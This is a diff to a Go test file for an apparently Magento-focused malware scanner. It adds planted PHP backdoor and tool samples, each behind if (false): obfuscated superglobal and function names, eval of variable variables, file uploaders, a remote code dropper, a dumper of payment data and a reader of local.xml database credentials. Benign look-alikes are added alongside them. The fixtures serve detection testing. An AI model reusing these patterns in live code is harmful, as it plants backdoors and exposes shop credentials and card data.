@@ -90,6 +90,18 @@ func plantedSet() []planted {
 		{"php_backdoor", loc + "Model/Cf.php", phpHead + "$cf = 'create_' . 'function';\nif (false) { $g = $cf('', $body); }\n", "heur.php.assembled_exec_name"},
 		{"php_backdoor", loc + "Model/Pr.php", phpHead + "if (false) { preg_replace('/.*/e', '\\\\0', $_REQUEST['q']); }\n", "php.preg_replace_e_request"},
 		{"php_backdoor", loc + "Model/Brace.php", phpHead + "if (false) { ${'_POST'}['f']($x); }\n", "php.request_called_braces"},
+		// Names spelled one character at a time from a scrambled literal.
+		{"php_backdoor", loc + "Model/Ci1.php", phpHead + "$k = \"tsp_o\";\n$g = strtoupper($k[3].$k[2].$k[4].$k[1].$k[0]);\nif (false) { echo ${$g}['x']; }\n", "heur.php.char_index_superglobal"},
+		{"php_backdoor", loc + "Model/Ci2.php", phpHead + "$k = 'trsae';\n$f = $k{3}.$k{2}.$k{2}.$k{4}.$k{1}.$k{0};\nif (false) { $f($x); }\n", "heur.php.char_index_exec"},
+		{"php_backdoor", loc + "Model/Vv1.php", phpHead + "$n = 'look_alike';\nif (false) { eval(${$n}['c']); }\n", "php.eval_varvar_index"},
+		{"php_backdoor", loc + "Model/Vv2.php", phpHead + "if (false) { ${\"" + hexEscaped("GLOBALS") + "\"}['k'] = 1; }\n", "php.varvar_escaped_name"},
+		{"php_backdoor", loc + "Model/Gate.php", phpHead + "if (false && md5($_POST['k']) == '" + strings.Repeat("0f", 16) + "') { echo 'look-alike'; }\n", "php.md5_request_gate"},
+		// Uploaders, droppers and database dumpers.
+		{"php_tool", "media/up.php", phpHead + "if (false) { $f = $_FILES['f']; copy($f['tmp_name'], $f['name']); }\n", "php.upload_client_path"},
+		{"php_tool", "app/code/local/Up2.php", phpHead + "if (false) { $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, $_POST['dir'] . '/x'); }\n", "php.upload_client_path"},
+		{"php_tool", "app/code/local/Drop.php", phpHead + "if (false) { $c = file_get_contents('https://example.invalid/c.txt');\n$h = fopen('cache.php', 'w'); fwrite($h, $c); }\n", "php.remote_code_dropper"},
+		{"php_tool", "app/code/local/Dump.php", phpHead + "if (false) { $db = new mysqli('localhost', 'u', 'p', 'd');\n$r = $db->query('SELECT additional_data FROM sales_flat_order_payment'); }\n", "php.standalone_db_dumper"},
+		{"php_tool", "app/code/local/Creds.php", phpHead + "if (false) { $x = simplexml_load_file('app/etc/local.xml');\n$l = mysql_connect((string) $x->host, (string) $x->username, (string) $x->password); }\n", "php.local_xml_credentials"},
 		{"php_backdoor", "app/code/local/db.php", phpHead + "/** look-alike of a single-file DB manager: @link https://www.adminer.org/ */\nclass Adminer { function name() { return 'look-alike'; } }\n", "php.adminer"},
 
 		// Browser-side skimmers in JavaScript files.
@@ -151,8 +163,13 @@ func stockShaped(t *testing.T, root string) {
 			"\t\t$input = preg_replace('/=([a-f0-9]{2})/ie', \"chr(hexdec('\\\\1'))\", $input);\n        return $input;\n    }\n}\n",
 		"lib/PEAR/Mail/mimePart.php": phpHead + "class Mail_mimePart {\n    function _buildHeaderParam($value)\n    {\n" +
 			"            $encValue = preg_replace('#([\\x80-\\xFF])#e', '\"%\" . strtoupper(dechex(ord(\"\\1\")))', $encValue);\n        return $encValue;\n    }\n}\n",
-		"app/code/community/Vendor/Ext/Helper/License.php":                phpHead + "class Vendor_Ext_Helper_License extends Mage_Core_Helper_Abstract {\n    public function check()\n    {\n        eval(base64_decode('" + b64(licence) + "'));\n    }\n}\n",
-		"app/code/community/Vendor/Ext/Model/Observer.php":                phpHead + "class Vendor_Ext_Model_Observer {\n    public function run($o)\n    {\n        $cb = array($this, '_sort');\n        usort($o, $cb);\n        return array_map('trim', $o);\n    }\n}\n",
+		"app/code/community/Vendor/Ext/Helper/License.php": phpHead + "class Vendor_Ext_Helper_License extends Mage_Core_Helper_Abstract {\n    public function check()\n    {\n        eval(base64_decode('" + b64(licence) + "'));\n    }\n}\n",
+		"app/code/community/Vendor/Ext/Model/Observer.php": phpHead + "class Vendor_Ext_Model_Observer {\n    public function run($o)\n    {\n        $cb = array($this, '_sort');\n        usort($o, $cb);\n        return array_map('trim', $o);\n    }\n}\n",
+		// Benign uses of the constructs the newer rules look for.
+		"app/code/community/Vendor/Ext/Helper/Text.php":                   phpHead + "class Vendor_Ext_Helper_Text {\n    public function initials($first, $last)\n    {\n        $s = 'look-alike';\n        return $first[0] . $last[0] . $s[0] . $s[1];\n    }\n}\n",
+		"app/code/community/Vendor/Ext/Model/Upload.php":                  phpHead + "class Vendor_Ext_Model_Upload {\n    public function save($dir)\n    {\n        $u = new Varien_File_Uploader('file');\n        $u->setAllowedExtensions(array('csv'));\n        return $u->save($dir);\n    }\n    public function move()\n    {\n        move_uploaded_file($this->_file['tmp_name'], $this->_dest);\n    }\n}\n",
+		"app/code/community/Vendor/Ext/Model/Feed.php":                    phpHead + "class Vendor_Ext_Model_Feed {\n    public function fetch()\n    {\n        $x = file_get_contents('https://feed.example.invalid/news.xml');\n        file_put_contents(Mage::getBaseDir('var') . '/feed.xml', $x);\n    }\n}\n",
+		"lib/Vendor/Db.php":                                               phpHead + "class Vendor_Db {\n    public function connect($cfg)\n    {\n        return new PDO($cfg['dsn'], $cfg['user'], $cfg['pass']);\n    }\n    public function hash($p)\n    {\n        return md5($_SERVER['HTTP_HOST'] . $p);\n    }\n}\n",
 		"js/vendor/ext/widget.js":                                         "(function(){var cfg={url:'https://api.example.invalid/widget'};\nfunction load(){var x=new XMLHttpRequest();x.open('GET',cfg.url);x.send();}\n})();\n",
 		"app/design/frontend/base/default/template/payment/form/cc.phtml": "<input type=\"text\" id=\"<?php echo $_code ?>_cc_number\" name=\"payment[cc_number]\" />\n<a href=\"https://www.example.invalid/cvv-help\">What is this?</a>\n",
 		"js/tinymce/langs/ru.js":                                          "tinyMCE.addI18n({ru:{common:{edit_confirm:\"\\u0412\\u044b \\u0445\\u043e\\u0442\\u0438\\u0442\\u0435 \\u0438\\u0441\\u043f\\u043e\\u043b\\u044c\\u0437\\u043e\\u0432\\u0430\\u0442\\u044c URL https://example.invalid?\"}}});\n",
@@ -188,6 +205,7 @@ func TestStockShapedTreeHasNoCriticalOrHigh(t *testing.T) {
 		"lib/PEAR/Mail/mimeDecode.php":                     "m1.files.info/php.preg_replace_e_const/info/false",
 		"lib/PEAR/Mail/mimePart.php":                       "m1.files.info/php.preg_replace_e_const/info/false",
 		"app/code/community/Vendor/Ext/Helper/License.php": "m1.files.signature/heur.php.eval_encoded/medium/true",
+		"app/code/community/Vendor/Ext/Helper/Text.php":    "m1.files.signature/php.char_index_assembly/medium/true",
 	}
 	for p, w := range want {
 		if strings.Join(got[p], ",") != w {
